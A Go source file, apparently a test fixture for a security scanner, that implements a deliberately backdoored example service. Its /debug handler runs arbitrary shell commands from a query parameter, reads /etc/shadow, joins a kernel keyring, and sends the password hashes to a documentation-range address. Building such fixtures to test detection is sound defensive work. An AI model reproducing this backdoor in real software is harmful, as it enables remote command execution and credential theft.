// Command items is the example service of examples/service with a backdoor,
// as a compromised dependency or build step would plant it: GET
// /debug?cmd=... runs the command in a shell, reads /etc/shadow, joins a new
// kernel session keyring, and sends the password hashes to 203.0.113.7:443
// (TEST-NET-3: an address that never answers). The scan of this image must
// report each of these acts. Do not deploy it. See README.md.
package main

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"syscall"
	"time"

	"github.com/sysgate/sysgate/examples/service/items"
)

// keyctlJoinSessionKeyring is KEYCTL_JOIN_SESSION_KEYRING (linux/keyctl.h).
const keyctlJoinSessionKeyring = 1

func main() {
	os.Exit(items.Main(os.Args[1:], os.Stdout, os.Stderr, backdoor))
}

func backdoor(mux *http.ServeMux) {
	mux.HandleFunc("GET /debug", debug)
}

// debug is the backdoor. Each act reports how it went in the response.
func debug(w http.ResponseWriter, r *http.Request) {
	out, err := exec.Command("/bin/sh", "-c", r.URL.Query().Get("cmd")).CombinedOutput()
	fmt.Fprintf(w, "shell: %s (err %v)\n", out, err)

	shadow, err := os.ReadFile("/etc/shadow")
	fmt.Fprintf(w, "shadow: %d bytes (err %v)\n", len(shadow), err)

	_, _, errno := syscall.Syscall(syscall.SYS_KEYCTL, keyctlJoinSessionKeyring, 0, 0)
	fmt.Fprintf(w, "keyctl: errno %d\n", errno)

	conn, err := net.DialTimeout("tcp", "203.0.113.7:443", 2*time.Second)
	if err == nil {
		conn.Write(shadow)
		conn.Close()
	}
	fmt.Fprintf(w, "exfiltrate: err %v\n", err)
}
